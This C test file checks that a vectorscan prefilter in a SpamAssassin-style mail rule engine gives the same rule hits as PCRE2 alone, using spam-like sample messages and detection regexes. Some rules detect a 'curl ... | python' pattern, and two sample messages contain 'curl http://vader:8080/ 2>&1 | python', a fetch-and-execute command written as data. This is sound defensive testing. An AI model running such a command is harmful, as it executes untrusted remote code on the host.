/*
 * test_prefilter.c - the vectorscan prefilter never changes a verdict.
 *
 * Each rule set is loaded twice: one copy with the prefilter built, the
 * other without (every rule in PCRE2); every message must get the same
 * rule hits, with the same counts, from both.  The rules and messages
 * are made for what the prefilter changes: patterns it rewrites
 * (counted repeats, possessive ones), constructs vectorscan lacks
 * (back-references, lookaround), UTF-8 and byte-mode patterns, header
 * groups with negated rules, and the two cases vectorscan 5.4.9 gets
 * wrong (prefilter.c): texts over a hundred octets (its AVX-512 code
 * missed their end) and runs of wide classes before literals (DOTALL
 * ".*", "[^<]*", "(?:.|\n)*"), and the rewriting's own old mistakes.  The stock SpamAssassin
 * rules, when installed, run against the same messages.  Also: the
 * background build, and a rule set freed while its build runs.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include <dirent.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#include "rules/rules.h"

static char dir[64];

static char *write_rules(const char *text)
{
	char *path = xasprintf("%s/t.rules", dir);
	FILE *f = fopen(path, "w");
	assert_non_null(f);
	fputs(text, f);
	fclose(f);
	return path;
}

static struct ruleset *load_file(const char *path)
{
	struct ruleset *rs = NULL;
	struct rules_report rep = { 0 };
	int r = ruleset_load_file(path, &rs, &rep);
	if (r < 0) {
		struct buf out;
		buf_init(&out, 1u << 20);
		rules_report_format(&rep, &out);
		fprintf(stderr, "%s", out.data ? out.data : "");
		buf_free(&out);
	}
	assert_int_equal(r, 0);
	rules_report_free(&rep);
	return rs;
}

/* Every rule scores 1, so that every hit shows in the result. */
static const char rules[] =
	"header H_SUBJ_FREE   Subject =~ /\\bfr[e3]e\\b/i\n"
	"header H_SUBJ_MONEY  Subject =~ /money.{0,40}fast/i\n"
	"header H_SUBJ_NOT    Subject !~ /invoice/\n"
	"header H_SUBJ_UNSET  X-Missing =~ /^default$/ [if-unset: default]\n"
	"header H_FROM_ADDR   From:addr =~ /\\@example\\.test$/\n"
	"header H_FROM_NAME   From:name =~ /^(?:Prize|Lottery) /\n"
	"header H_MSGID_SP    Message-ID =~ /^\\s*<[^>]*\\s[^>]*>/\n"
	"header H_MSGID_NUM   Message-ID =~ /^<\\d{10,}\\@/\n"
	"header H_EXISTS      exists:X-Mailer\n"
	"header H_ALL_MAILER  ALL =~ /^X-Mailer: .{0,30}Bulk/m\n"
	"rawbody R_IMG_SRC    /<img\\b[^>]{0,300}\\bsrc\\s*=\\s*[\"']?https?:\\/\\//i\n"
	"body   B_CLICK       /\\bclick\\s+here\\b/i\n"
	"body   B_REPEAT      /(\\w)\\1{4}/\n"
	"body   B_LOOKAHEAD   /\\bwin(?=ner\\b)/\n"
	"body   B_LOOKBEHIND  /(?<=\\$)\\d{3,}/\n"
	"body   B_POSSESSIVE  /a{2,20}+b/\n"
	"body   B_QUOTED      /\\Q$$$\\E{2,}/\n"
	"body   B_CLASS_BRACE /[{]\\d{10,}[}]/\n"
	"body   B_EXACT       /\\d{12}/\n"
	"body   B_UTF_DOT     /gr.\\x{DF}e/\n"
	"body   B_UTF_LIT     /Gr\xc3\xbc\xc3\x9f""e/\n"
	"body   B_UTF_CASE    /gr\xc3\xbc\xc3\x9f""e/i\n"
	"body   B_BYTES       /\\xc3\\xa9t\\xc3\\xa9/\n"
	"body   B_EXTENDED    /c l i c k \\s+ h e r e/x\n"
	"body   B_MULTIPLE    /\\bbuy\\b/i\n"
	"tflags B_MULTIPLE    multiple maxhits=5\n"
	"body   B_EMPTY       /x*/\n"
	"rawbody R_FONT       /<font[^>]{0,100}color=\"?#?ff0000/i\n"
	"rawbody R_NEG_RUN    /<div>[^<]*<\\/div>/\n"
	"uri    U_IP          /^https?:\\/\\/\\d{1,3}\\.\\d{1,3}\\.\\d{1,3}\\.\\d{1,3}/\n"
	"uri    U_LONG_PATH   /\\/[a-z0-9]{40,}/\n"
	"full   F_DOTALL      /Subject:.*click/s\n"
	"full   F_DOTALL_PIPE /curl.*\\|\\s*python/s\n"
	"full   F_BOUNDARY    /boundary=\"?-{5,}=_/\n"
	/* vectorscan 5.4.9 misses these runs too (pfpattern.c cuts them) */
	"body   B_NEG_PIPE    /curl[^<]{0,60}\\|\\s*python/\n"
	"body   B_NEG_PIPE2   /curl[^<]*\\|\\s*python/\n"
	"body   B_ANY_GROUP   /curl(?:.|\\n)*\\|\\s*python/\n"
	"body   B_ALT_RUNS    /\\bunsub\\w*\\b[^.]{0,60}\\bclick\\b|\\bclick\\s+here\\b[^.]{0,40}\\bremove\\b/i\n"
	"uri    U_OPT_USER    /^https?:\\/\\/(?:[^\\/?#@]*@)?\\d{1,3}\\.\\d{1,3}\\.\\d{1,3}\\.\\d{1,3}\\//\n"
	/* what the rewriting used to get wrong: comments, \\c, \\x{..},
	 * Unicode properties (vectorscan's tables are older) */
	"body   B_COMMENT_CLS /x(?#[)[]{12}]/\n"
	"body   B_CTRL_BRACE  /\\c{12}/\n"
	"body   B_HEX_BRACE   /x\\x{41}{12}y/\n"
	"body   B_PROPERTY    /x\\p{L}y/\n"
	"meta   M_BOTH        B_CLICK && H_SUBJ_FREE\n";

static const char *const messages[] = {
	"From: Prize Office <win@example.test>\n"
	"Subject: Free money, fast fast\n"
	"Message-ID: <abc def@example.test>\n"
	"X-Mailer: The Bulk Mailer 3\n"
	"Content-Type: text/html\n\n"
	"<html><body><p>Click here to claim: you are a winner!</p>"
	"<img width=1 height=1 alt=\"" /* a run of over 100 octets without '>' */
	"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"
	"aaaaaaaaaaaaaaaaaaaaaaaaaaaa\" src=\"http://192.0.2.7/abcdefghijabcdefghijabcdefghijabcdefghij\">"
	"<font size=3 color=\"#FF0000\">buy buy BUY buy buy buy buy</font>"
	"<div>" "bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb"
	"bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb</div>"
	"Only $12345 for aaaaaab, $$$$ and {123456789012} zzzzz.</body></html>\n",

	"From: Jane <jane@mail.example.org>\n"
	"Subject: =?UTF-8?B?R3LDvMOfZSBhdXMgQmVybGlu?=\n"
	"Message-ID: <1@mail.example.org>\n"
	"MIME-Version: 1.0\n"
	"Content-Type: text/plain; charset=utf-8\n"
	"Content-Transfer-Encoding: 8bit\n\n"
	"Gr\xc3\xbc\xc3\x9f""e aus Berlin, GR\xc3\x9c\xc3\x9f""E, und gr\xc3\xa4\xc3\x9f""e.\n"
	"Das invoice kommt sp\xc3\xa4ter. click  here, \xc3\xa9t\xc3\xa9 2026.\n"
	"A long line: "
	"cccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccc"
	"cccccccccccccccccccccccccccccccccccccc winner click\n",

	"From: bulk@example.test\n"
	"Subject: invoice 42\n"
	"Content-Type: multipart/alternative; boundary=\"------=_part\"\n\n"
	"--------=_part\n"
	"Content-Type: text/plain; charset=iso-8859-1\n"
	"Content-Transfer-Encoding: quoted-printable\n\n"
	"=E9t=E9 sale: visit https://www.example.test/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\n"
	"run: curl http://vader:8080/ 2>&1 | python\n"
	"--------=_part--\n",

	/* Invalid UTF-8 everywhere, and NULs. */
	"From: \xff\xfe <x@example.test>\n"
	"Subject: fr\xe9""e \xc3 money \xed\xa0\x80 fast\n\n"
	"click\xc0\xafhere \xf5\x80\x80\x80 winner gr\xfc\xdf""e \xc3\xa9t\xc3\xa9\n",

	/* The match ends a text of over 100 octets (what vectorscan 5.4.9's
	 * AVX-512 code missed). */
	"Message-ID: <\"020828081752Z.WT24519.  6*/PN=Some.One/OU=Technical/OU=NOTES/O=Example "
	"Org/PRMD=EX/ADMD=GOLD 400/C=GB/\"@MHS>\n"
	"Subject: x\n"
	"Content-Type: text/html\n\n"
	"<div>bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb"
	"bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb</div>\n",

	/* Nearly empty. */
	"Subject:\n\n",

	/* What vectorscan 5.4.9 misses in a run of a negated class, and
	 * what the rewriting missed (test_pfpattern.c). */
	"Subject: runs\n"
	"MIME-Version: 1.0\n"
	"Content-Type: text/plain; charset=utf-8\n"
	"Content-Transfer-Encoding: 8bit\n\n"
	"run: curl http://vader:8080/ 2>&1 | python\n"
	"To unsubscribe from this list click here. Or click here to be removed: remove\n"
	"x1 ;12} xAAAAAAAAAAAAy x\xe1\xb2\x80y http://user@192.0.2.9/\n",
};

static void assert_same(struct ruleset *pf, struct ruleset *plain, const char *msg, size_t which)
{
	struct msgview *mv = msgview_new(msg, strlen(msg));
	struct rules_result a, b;
	ruleset_match(pf, mv, &a);
	ruleset_match(plain, mv, &b);
	bool same = a.n == b.n;
	for (size_t k = 0; same && k < a.n; k++)
		same = strcmp(a.v[k].name, b.v[k].name) == 0 && a.v[k].count == b.v[k].count;
	if (!same) {
		fprintf(stderr, "message %zu: with the prefilter:", which);
		for (size_t k = 0; k < a.n; k++)
			fprintf(stderr, " %s(%u)", a.v[k].name, a.v[k].count);
		fprintf(stderr, "\n  PCRE2 alone:");
		for (size_t k = 0; k < b.n; k++)
			fprintf(stderr, " %s(%u)", b.v[k].name, b.v[k].count);
		fprintf(stderr, "\n");
	}
	assert_true(same);
	rules_result_free(&a);
	rules_result_free(&b);
	msgview_free(&mv);
}

static bool hit(const struct ruleset *rs, const char *msg, const char *name, unsigned *count)
{
	struct msgview *mv = msgview_new(msg, strlen(msg));
	struct rules_result r;
	ruleset_match(rs, mv, &r);
	bool found = false;
	for (size_t k = 0; k < r.n; k++)
		if (strcmp(r.v[k].name, name) == 0) {
			found = true;
			if (count)
				*count = r.v[k].count;
		}
	rules_result_free(&r);
	msgview_free(&mv);
	return found;
}

static void test_same_verdicts(void **state)
{
	(void)state;
	char *path = write_rules(rules);
	struct ruleset *pf = load_file(path), *plain = load_file(path);
	ruleset_prefilter(pf, false);
	/* Most of the rules are in the databases (the others: exists:,
	 * if-unset, the empty match, groups of one). */
	assert_true(ruleset_prefiltered(pf) >= 20);
	assert_int_equal(ruleset_prefiltered(plain), 0);
	for (size_t i = 0; i < sizeof(messages) / sizeof(messages[0]); i++)
		assert_same(pf, plain, messages[i], i);
	/* And the rules do match what they were made for (so that the
	 * comparison compares something). */
	unsigned n = 0;
	assert_true(hit(pf, messages[0], "R_IMG_SRC", NULL));
	assert_true(hit(pf, messages[0], "R_NEG_RUN", NULL));
	assert_true(hit(pf, messages[0], "H_MSGID_SP", NULL));
	assert_true(hit(pf, messages[0], "U_IP", NULL));
	assert_true(hit(pf, messages[0], "B_LOOKBEHIND", NULL));
	assert_true(hit(pf, messages[0], "M_BOTH", NULL));
	assert_true(hit(pf, messages[0], "B_MULTIPLE", &n));
	assert_int_equal(n, 5);
	assert_true(hit(pf, messages[1], "B_UTF_LIT", NULL));
	assert_true(hit(pf, messages[1], "B_UTF_CASE", &n));
	assert_int_equal(n, 1); /* the rendered body; the Subject is its first paragraph */
	assert_true(hit(pf, messages[1], "B_EXTENDED", NULL));
	assert_true(hit(pf, messages[1], "H_SUBJ_NOT", NULL));
	assert_false(hit(pf, messages[2], "H_SUBJ_NOT", NULL));
	assert_true(hit(pf, messages[2], "U_LONG_PATH", NULL));
	assert_true(hit(pf, messages[2], "B_BYTES", NULL));
	assert_true(hit(pf, messages[2], "F_DOTALL_PIPE", NULL));
	assert_true(hit(pf, messages[4], "H_MSGID_SP", NULL));
	assert_true(hit(pf, messages[4], "R_NEG_RUN", NULL));
	assert_true(hit(pf, messages[5], "H_SUBJ_UNSET", NULL));
	static const char *const runs[] = { "B_NEG_PIPE", "B_NEG_PIPE2",   "B_ANY_GROUP",
					    "B_ALT_RUNS", "U_OPT_USER",    "B_COMMENT_CLS",
					    "B_CTRL_BRACE", "B_HEX_BRACE", "B_PROPERTY" };
	for (size_t i = 0; i < sizeof(runs) / sizeof(runs[0]); i++) {
		if (!hit(pf, messages[6], runs[i], NULL))
			fprintf(stderr, "%s does not hit\n", runs[i]);
		assert_true(hit(pf, messages[6], runs[i], NULL));
	}
	ruleset_free(&pf);
	ruleset_free(&plain);
	unlink(path);
	free(path);
}

static void test_background_build(void **state)
{
	(void)state;
	char *path = write_rules(rules);
	struct ruleset *rs = load_file(path);
	ruleset_prefilter(rs, true);
	/* Matching works while the build runs, and after. */
	assert_true(hit(rs, messages[0], "R_IMG_SRC", NULL));
	for (int i = 0; i < 6000 && ruleset_prefiltered(rs) == 0; i++) {
		struct timespec ts = { 0, 10 * 1000 * 1000 };
		nanosleep(&ts, NULL);
	}
	assert_true(ruleset_prefiltered(rs) >= 20);
	assert_true(hit(rs, messages[0], "R_IMG_SRC", NULL));
	ruleset_free(&rs);
	/* Freed while building: the builder finishes alone. */
	rs = load_file(path);
	ruleset_prefilter(rs, true);
	ruleset_free(&rs);
	assert_null(rs);
	unlink(path);
	free(path);
}

/* Debian's spamassassin package: every .cf file of it, included. */
static void test_stock_spamassassin(void **state)
{
	(void)state;
	DIR *d = opendir("/usr/share/spamassassin");
	if (d == NULL)
		skip();
	struct buf b;
	buf_init(&b, 1u << 20);
	struct dirent *e;
	while ((e = readdir(d)) != NULL) {
		size_t l = strlen(e->d_name);
		if (l > 3 && strcmp(e->d_name + l - 3, ".cf") == 0)
			buf_printf(&b, "include /usr/share/spamassassin/%s\n", e->d_name);
	}
	closedir(d);
	char *path = write_rules(b.data ? b.data : "");
	buf_free(&b);
	struct ruleset *pf = NULL, *plain = NULL;
	struct rules_report rep = { 0 };
	assert_int_equal(ruleset_load_file(path, &pf, &rep), 0);
	rules_report_free(&rep);
	assert_int_equal(ruleset_load_file(path, &plain, &rep), 0);
	rules_report_free(&rep);
	ruleset_prefilter(pf, false);
	assert_true(ruleset_prefiltered(pf) >= 500);
	for (size_t i = 0; i < sizeof(messages) / sizeof(messages[0]); i++)
		assert_same(pf, plain, messages[i], i);
	ruleset_free(&pf);
	ruleset_free(&plain);
	unlink(path);
	free(path);
}

static int setup(void **state)
{
	(void)state;
	const char *tmp = getenv("TMPDIR");
	snprintf(dir, sizeof(dir), "%s/pf.XXXXXX", tmp && strlen(tmp) < 40 ? tmp : "/tmp");
	return mkdtemp(dir) ? 0 : -1;
}

static int teardown(void **state)
{
	(void)state;
	rmdir(dir);
	return 0;
}

int main(void)
{
	log_open("test_prefilter", LOG_LVL_ERR, NULL);
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_same_verdicts),
		cmocka_unit_test(test_background_build),
		cmocka_unit_test(test_stock_spamassassin),
	};
	return cmocka_run_group_tests(tests, setup, teardown);
}
